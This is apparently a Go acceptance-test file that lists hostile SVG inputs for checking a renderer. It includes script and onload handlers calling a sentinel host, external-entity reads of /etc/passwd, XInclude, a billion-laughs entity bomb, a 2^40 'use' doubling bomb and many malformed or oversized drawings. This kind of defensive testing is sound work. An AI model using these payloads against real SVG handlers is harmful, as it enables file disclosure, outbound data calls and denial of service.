package acceptance

import (
	"fmt"
	"strings"
)

// drawing is an SVG file of 100 by 60 units.
func drawing(content string) string {
	return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 60">` + content + "</svg>\n"
}

// hostileSVG are drawings.
func hostileSVG() []hostile {
	file := func(name, data string) hostile {
		return plain("svg/"+name, one("![alt](d.svg){credit=\"C\"}\n").with("d.svg", data))
	}
	in := func(name, content string) hostile { return file(name, drawing(content)) }
	entities := `<!DOCTYPE svg [<!ENTITY a "lollollollol">`
	for c := 'b'; c <= 'j'; c++ {
		entities += fmt.Sprintf(`<!ENTITY %c "%s">`, c, strings.Repeat(fmt.Sprintf("&%c;", c-1), 10))
	}
	entities += "]>\n"
	return []hostile{
		in("script", `<script>alert(1)</script><script href="http://`+sentinel+`/x.js"/><rect width="9" height="9" onclick="alert(1)" onload="fetch('http://`+sentinel+`')"/>`),
		in("script in links", `<a href="javascript:alert(1)"><rect width="9" height="9"/></a><a xlink:href="data:text/html,x"><rect width="9" height="9"/></a>`),
		in("remote image", `<image href="http://`+sentinel+`/x.png" width="9" height="9"/><image xlink:href="//`+sentinel+`/x.png" width="9" height="9"/><image href="file:///etc/passwd" width="9" height="9"/>`),
		in("remote style", `<style>@import url(http://`+sentinel+`/x.css); rect { fill: url(http://`+sentinel+`/#g); behavior: url(x.htc) } @font-face { font-family: f; src: url(http://`+sentinel+`/f.woff) }</style><rect width="9" height="9" style="fill:url(http://`+sentinel+`/#g)"/>`),
		in("remote use", `<use href="http://`+sentinel+`/x.svg#a"/><use xlink:href="../x.svg#a"/><filter id="f"><feImage href="http://`+sentinel+`/x.png"/></filter><rect filter="url(#f)" width="9" height="9"/>`),
		in("foreign object", `<foreignObject width="90" height="50"><div xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script><iframe src="http://`+sentinel+`/"/><img src="http://`+sentinel+`/x.png" onerror="x()"/></div></foreignObject>`),
		in("handlers of animation", `<animate attributeName="href" values="javascript:alert(1)"/><set attributeName="onload" to="alert(1)"/><rect width="9" height="9"><animate attributeName="x" dur="1s" from="0" to="9"/></rect>`),
		in("image within", `<image href="data:image/png;base64,iVBORw0KGgo=" width="9" height="9"/><image href="data:text/html,x" width="9" height="9"/>`),
		file("stylesheet instruction", `<?xml-stylesheet href="http://`+sentinel+`/x.css"?>`+drawing(`<rect width="9" height="9"/>`)),
		file("entity bomb", entities+strings.Replace(drawing("<text>&j;</text>"), "viewBox", `data-x="&j;" viewBox`, 1)),
		file("entity from a file", `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>`+drawing("<text>&x;</text>")),
		file("entity from the web", `<!DOCTYPE svg SYSTEM "http://`+sentinel+`/svg.dtd" [<!ENTITY % p SYSTEM "http://`+sentinel+`/p">%p;]>`+drawing("<text>x</text>")),
		in("inclusion", `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>`),
		in("empty", ""),
		file("root alone", `<svg xmlns="http://www.w3.org/2000/svg"/>`),
		file("no namespace", `<svg viewBox="0 0 10 10"><rect width="5" height="5"/></svg>`),
		file("no size", `<svg xmlns="http://www.w3.org/2000/svg"><rect width="5" height="5"/></svg>`),
		file("size zero", `<svg xmlns="http://www.w3.org/2000/svg" width="0" height="0" viewBox="0 0 0 0"/>`),
		file("size negative", `<svg xmlns="http://www.w3.org/2000/svg" width="-5" height="-5"/>`),
		file("size enormous", `<svg xmlns="http://www.w3.org/2000/svg" width="1e30" height="1e30" viewBox="0 0 1e300 1e-300"/>`),
		file("size of words", `<svg xmlns="http://www.w3.org/2000/svg" width="wide" height="NaN" viewBox="a b c d"/>`),
		file("two roots", drawing("")+drawing("")),
		file("unclosed", strings.TrimSuffix(drawing(`<g><rect width="5" height="5"/>`), "</svg>\n")),
		file("misnested", drawing(`<g><rect></g></rect>`)),
		file("utf-16", utf16LE(`<?xml version="1.0" encoding="utf-16"?>`+drawing(`<rect width="9" height="9"/>`))),
		file("latin-1", `<?xml version="1.0" encoding="iso-8859-1"?>`+drawing("<text y=\"20\">caf\xe9</text>")),
		file("control characters", drawing("<text>a\x00b\x07c</text>")),
		file("byte order mark", "\ufeff"+drawing(`<rect width="9" height="9"/>`)),
		file("duplicate attributes", drawing(`<rect width="5" width="6" height="5"/>`)),
		file("duplicate ids", drawing(`<rect id="a" width="5" height="5"/><rect id="a" width="6" height="5"/><use href="#a" x="20"/>`)),
		in("use of itself", `<g id="a"><use href="#a"/></g><use id="b" href="#c"/><use id="c" href="#b"/>`),
		in("use that doubles", doubling(40)).slowly(),
		in("gradient of itself", `<linearGradient id="a" href="#b"/><linearGradient id="b" href="#a"/><rect fill="url(#a)" width="50" height="50"/>`),
		in("pattern of itself", `<pattern id="p" width="1" height="1"><rect fill="url(#p)" width="1" height="1"/></pattern><rect fill="url(#p)" width="50" height="50"/>`),
		in("marker of itself", `<marker id="m" markerWidth="3" markerHeight="3"><path d="M0 0L9 9" marker-end="url(#m)"/></marker><path d="M0 0L9 9L20 2" marker-mid="url(#m)" stroke="red"/>`),
		in("mask and clip of itself", `<mask id="m"><rect mask="url(#m)" width="9" height="9"/></mask><clipPath id="c"><rect clip-path="url(#c)" width="9" height="9"/></clipPath><rect mask="url(#m)" clip-path="url(#c)" width="50" height="50"/>`),
		in("filters", `<filter id="f"><feTurbulence numOctaves="1000000"/><feGaussianBlur stdDeviation="1e9"/></filter><rect filter="url(#f)" width="90" height="50"/>`),
		in("tiny dashes", `<path d="M0 0H100000000" stroke="black" stroke-dasharray="0.000001 0.000001"/>`),
		in("dashes of nothing", `<path d="M0 0H50" stroke="black" stroke-dasharray="0 0"/><path d="M0 9H50" stroke="black" stroke-dasharray="-1 5 NaN"/>`),
		in("numbers at their ends", `<path d="M1e308 1e308L-1e308-1e308 1e-308 1e-308NaN InfinityZ" stroke="red" stroke-width="1e300"/><circle r="1e300"/><ellipse rx="-1" ry="1e-300"/><rect x="9223372036854775807" width="18446744073709551616" height="1"/>`),
		in("transforms", `<g transform="scale(1e200) scale(1e200) rotate(1e308) skewX(90) matrix(0 0 0 0 0 0) translate(,) foo(1"><rect width="5" height="5"/></g><g transform="scale(0)"><rect width="5" height="5"/></g>`),
		in("arcs", `<path d="M0 0A0 0 0 0 0 1 1A1e9 1e-9 45 1 1 50 50A5 5 0 2 3 9 9Z"/>`),
		in("broken path", `<path d="M 1 2 L 3"/><path d="L1 1"/><path d="M1 1 Q"/><path d="hello"/><polygon points="1,2,3"/><polyline points=""/>`),
		in("text of every kind", `<text y="20" font-family="Nobody, 'No Such'" font-size="1e9">big</text><text x="1 2 3" dy="5" rotate="9">a<tspan>b<textPath href="#x">c</textPath></tspan></text><text font-size="0">none</text><text y="50">한국 潮 ش 🛳</text>`),
		in("styles", `<style>*{fill:red} rect:not(.x) > g ~ a[href^="x"]::before{} }}}{{{ @media{ /* </style><rect width="5" height="5" style="fill:;stroke:#12345;:;;opacity:9"/>`),
		in("deep groups", strings.Repeat("<g>", 5_000)+strings.Repeat("</g>", 5_000)),
		in("100,000 groups unclosed", strings.Repeat("<g>", 100_000)),
		in("100,000 elements", lines(100_000, `<rect x="1" y="%d" width="5" height="5"/>`)).slowly(),
		in("100,000 attributes", "<rect "+lines(100_000, `a%d="x" `)+"/>"),
		in("path of a million points", `<path d="M0 0`+strings.Repeat("l1 1-1 1", 500_000)+`"/>`).slowly(),
		in("style of a megabyte", "<style>"+lines(40_000, ".c%d{fill:#123456}")+`</style><rect class="c7" width="5" height="5"/>`),
		in("classes by rules", "<style>"+lines(3_000, ".c%d{fill:red}")+"</style>"+strings.Repeat(`<rect class="`+lines(50, "c%d ")+`" width="5" height="5"/>`, 2_000)).slowly(),
	}
}

// doubling is drawn 2^n times when each use is followed.
func doubling(n int) string {
	var b strings.Builder
	b.WriteString(`<rect id="u0" width="1" height="1"/>`)
	for i := range n {
		fmt.Fprintf(&b, `<g id="u%d"><use href="#u%d"/><use href="#u%d" x="1"/></g>`, i+1, i, i)
	}
	return b.String()
}
